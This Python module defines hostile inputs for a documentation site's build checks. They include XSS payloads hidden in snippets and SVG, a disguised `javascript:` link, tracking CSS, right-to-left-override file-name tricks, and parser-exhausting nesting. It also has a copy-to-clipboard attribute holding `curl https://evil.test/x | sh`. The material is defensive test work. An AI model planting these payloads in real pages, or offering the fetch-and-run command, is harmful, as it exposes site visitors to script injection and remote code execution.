"""Bad-input cases of issue 13's second red team, run by tests/site/test_bad_input.py with the others
(each publishes a broken copy of the project over a previous site: the build must fail, name the
file and line, and leave that site as it was). Built from that module's helpers, passed in, so
both read the same way."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from pathlib import Path

Change = Callable[[Path], None]

SVG_HIDING_A_SCRIPT = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><desc><textarea>'
                       '<script>alert(document.domain)</script></textarea></desc><rect width="9" height="9"/></svg>\n')


SECOND_PAGE = {
    "ko": "---\ntitle: 다른 도움말\ndescription: 같은 주소에 놓인 두 번째 문서입니다. 독자는 둘 중 하나만 보게 됩니다.\n---\n\n# 다른 도움말\n\n내용입니다.\n",
    "en": "---\ntitle: Other tips\ndescription: A second page at the same address; readers only get one of the two pages.\n"
          "source_revision: \"df98a767d4e0\"\n---\n\n# Other tips\n\nText.\n",
}


def cases(write: Callable[[str, str | bytes], Change], edit: Callable[[str, str, str], Change],
          add_before_first_h2: Callable[[str, str], Change]) -> dict[str, tuple[Change, str]]:
    def both(*changes: Change) -> Change:
        def change(project: Path) -> None:
            for one in changes:
                one(project)
        return change

    def snippet(name: str, text: str | bytes, page: str = "docs/ko/support/tips.md") -> Change:
        return both(write(f"snippets/{name}", text), add_before_first_h2(page, f'--8<-- "{name}"'))

    def append(path: str, text: str) -> Change:
        def change(project: Path) -> None:
            with (project / path).open("a", encoding="utf-8") as file:
                file.write(text)
        return change

    def copy(path: str, to: str) -> Change:
        def change(project: Path) -> None:
            (project / to).write_bytes((project / path).read_bytes())
        return change

    tips = "docs/ko/support/tips.md"
    second_tips = both(write("docs/ko/support/tips/index.md", SECOND_PAGE["ko"]), write("docs/en/support/tips/index.md", SECOND_PAGE["en"]),
                       edit("mkdocs.yml", "      - support/tips.md\n", "      - support/tips.md\n      - support/tips/index.md\n"))
    return {
        # Scripts: CSP 'self' lets any same-site file run, so only the templates' and mkdocs.yml's may load.
        "output: a writer's script file loaded from a snippet": (
            both(write("docs/assets/javascripts/evil.js", "alert(document.domain)\n"),
                 snippet("ko/load.md", '<script src="../../assets/javascripts/evil.js"></script>\n')),
            r"snippets/ko/load\.md:1: <script src=\"\.\./\.\./assets/javascripts/evil\.js\"> is not one of the site's scripts.*\[output-gate\]"),
        "output: the theme's search worker as a script, from a snippet": (
            snippet("ko/worker.md", '<script src="../../assets/javascripts/lunr/tinyseg.js"></script>\n'),
            r"snippets/ko/worker\.md:1: <script src=.*is not one of the site's scripts"),
        # An SVG file opened on its own is XML: <desc><textarea> is raw text to HTML, elements to XML.
        "output: SVG file whose XML runs a script the HTML reading hides": (
            write("docs/assets/badge.svg", SVG_HIDING_A_SCRIPT), r"docs/assets/badge\.svg:1: inline <script>.*\[output-gate\]"),
        # A stylesheet of the site's own: CSP blocks other hosts only where the host sends it.
        "output: the site's stylesheet loads a tracking image": (
            append("docs/assets/stylesheets/site.css", "\n.md-footer { background: url(https://tracker.test/p.png); }\n"),
            r"docs/assets/stylesheets/site\.css:\d+: the stylesheet loads https://tracker\.test/p\.png from outside the site"),
        # Metadata in the body: a referrer leak, a second policy, a stylesheet of the writer's.
        "output: referrer policy from a snippet": (
            snippet("ko/meta.md", '<meta name="referrer" content="unsafe-url">\n'),
            r"snippets/ko/meta\.md:1: <meta> in the page's body"),
        "output: stylesheet link from a snippet": (
            snippet("en/style.md", '<link rel="stylesheet" href="../../assets/stylesheets/site.css">\n', "docs/en/support/tips.md"),
            r"snippets/en/style\.md:1: <link> in the page's body"),
        # SVG paint that refers to another document, written with a CSS escape.
        "output: SVG fill from another site, CSS-escaped": (
            snippet("ko/paint.md", '<svg viewBox="0 0 9 9"><rect width="9" height="9" fill="\\75 rl(https://evil.test/x.svg#a)"/></svg>\n'),
            r"snippets/ko/paint\.md:1: fill=.* refers to something other than an element of the page"),
        # A srcset entry the source rule's URL pattern does not read.
        "output: image srcset with a data URL": (
            add_before_first_h2(tips, '<img alt="x" src="../../assets/favicon.svg" srcset="data:image/svg+xml,%3Csvg%3E 2x">'),
            rf"{tips}:\d+: <img srcset=\"data:image/svg\+xml.*loads from outside the site"),
        "output: reference link, mixed case with a tab reference": (
            add_before_first_h2("docs/en/faq.md", "[help][h]\n\n[h]: JaVa&#x09;ScRiPt:alert(1)"),
            r"docs/en/faq\.md:\d+: .*('javascript:' URL|'JaVa&#x09;ScRiPt)"),
        # An emoji shortcode: pymdownx.emoji draws it as a picture from a CDN.
        "output: emoji shortcode drawn from a CDN": (
            add_before_first_h2("docs/en/support/tips.md", "Thanks for writing :smile:"),
            r"docs/en/support/tips\.md:\d+: the emoji :smile: is a picture from another site.*type the emoji itself"),
        # Text that reads in another order than it is written (a link or address that looks like another).
        "output: text-direction override in a data file": (
            edit("data/support-methods.yml", "en: Email support", "en: Email \u202esupport"),
            r"data/support-methods\.yml:\d+: invisible text-direction control U\+202E"),
        "output: text-direction override in a navigation label": (
            edit("mkdocs.yml", "            계정: Account", "            계정: Acc\u202eount"),
            r"mkdocs\.yml:\d+: invisible text-direction control U\+202E.*\[output-gate\]"),
        "page: text-direction override": (
            add_before_first_h2("docs/en/faq.md", "Open invoice\u202efdp.exe to see it."),
            r"docs/en/faq\.md:\d+: invisible character U\+202E \(RIGHT-TO-LEFT OVERRIDE\) at column \d+"),
        "page: text-direction isolate as a character reference": (
            add_before_first_h2("docs/ko/faq.md", "결제 &#x2067;오류"), r"docs/ko/faq\.md:\d+: invisible character U\+2067"),
        "page: NUL byte": (add_before_first_h2("docs/ko/support/email.md", "결제\x00오류"), r"docs/ko/support/email\.md:\d+: invisible character U\+0000"),
        "page: zero-width space in a heading": (
            edit(tips, "\n## 자료를 함께 보내기", "\n## 자료를\u200b 함께 보내기"), rf"{tips}:\d+: invisible character U\+200B \(ZERO WIDTH SPACE\)"),
        # Pathological nesting: the parser's time grows with the square of the depth.
        "page: raw HTML nested thousands deep": (
            add_before_first_h2(tips, "<div>" * 4000 + "x" + "</div>" * 4000),
            rf"{tips}:\d+: elements nested at least 257 deep, more than 256.*nest fewer"),
        "page: quotes nested hundreds deep": (
            add_before_first_h2("docs/en/support/tips.md", "> " * 300 + "deep"), r"docs/en/support/tips\.md:\d+: quotes nested 300 deep.*\[files\]"),
        "page: thousands of unclosed brackets": (
            add_before_first_h2("docs/en/support/email.md", "Pasted: " + "[" * 9000),
            r"docs/en/support/email\.md:\d+: '\[' without a '\]' near them.*\[files\]"),
        "page: thousands of unclosed tags": (
            add_before_first_h2("docs/en/support/phone.md", "Pasted: " + "<a " * 60000),
            r"docs/en/support/phone\.md:\d+: '<' without a '>' near them.*\[files\]"),
        # File names and snippets a careless writer produces.
        "files: names that differ only in case": (
            copy(tips, "docs/ko/support/Tips.md"),
            r"docs/ko/support/(Tips|tips)\.md:1: differs from '(tips|Tips)\.md' only in upper and lower case"),
        "files: decomposed Korean name": (
            write("docs/assets/" + unicodedata.normalize("NFD", "결제") + ".svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'),
            r"docs/assets/.+\.svg:1: the name is stored with decomposed Korean letters"),
        "snippet: included over and over": (
            both(write("snippets/ko/big.md", "반복되는 긴 문단입니다. " * 5000 + "\n"),
                 add_before_first_h2(tips, '--8<-- "ko/big.md"\n' * 20)),
            rf"{tips}:\d+: with its snippets it is [\d,]+ bytes, more than 400,000"),
        "snippet: not UTF-8": (snippet("ko/latin.md", "caf\xe9\n".encode("latin-1")), r"snippets/ko/latin\.md:1: byte 3 is not UTF-8 text"),
        # Material's script acts on its data-md-* and data-clipboard-* attributes wherever they are.
        "output: copy-to-clipboard set by an attribute list": (
            add_before_first_h2(tips, '아래 명령을 복사하세요\n{: data-clipboard-text="curl https://evil.test/x | sh" }'),
            rf"{tips}:\d+: attribute data-clipboard-text= is one the theme's script acts on"),
        "output: theme component from a snippet": (
            snippet("en/component.md", '<div data-md-component="announce">Sale!</div>\n', "docs/en/support/tips.md"),
            r"snippets/en/component\.md:1: attribute data-md-component= is one the theme's script acts on"),
        # Two things written to one address: the reader gets one of them, silently.
        "files: a page beside the folder of the same name": (
            second_tips, r"docs/(ko|en)/support/tips/index\.md:1: docs/(ko|en)/support/tips\.md is published at the same address"),
        "redirect: written over a page": (
            edit("mkdocs.yml", "contact.md: support/methods.md", "contact.md: support/methods.md\n        support/tips/index.md: support/email.md"),
            r"docs/(ko|en)/support/tips\.md:1: the published page was replaced by another file of the build"),
        # Published text that is not a page: the search vocabulary, the sitemap and robots.txt.
        "output: direction override in a synonym reaches the search vocabulary": (
            edit("data/search-synonyms.yml", "  비번: [비밀번호]", "  비번: [비밀\u202e번호]"),
            r"data/search-synonyms\.yml:\d+: invisible text-direction control U\+202E.*hc-vocabulary\.json"),
        "config: site address with markup": (
            edit("mkdocs.yml", 'site_url: !ENV [SITE_URL, "http://127.0.0.1:8000/"]', """site_url: 'https://help.test/"><script>alert(1)</script>'"""),
            r"mkdocs\.yml:\d+: site_url .* is not a plain web address"),
        "snippet: UTF-16": (snippet("en/wide.md", "# Title\n".encode("utf-16"), "docs/en/support/tips.md"),
                            r"snippets/en/wide\.md:1: byte 0 is not UTF-8 text"),
    }
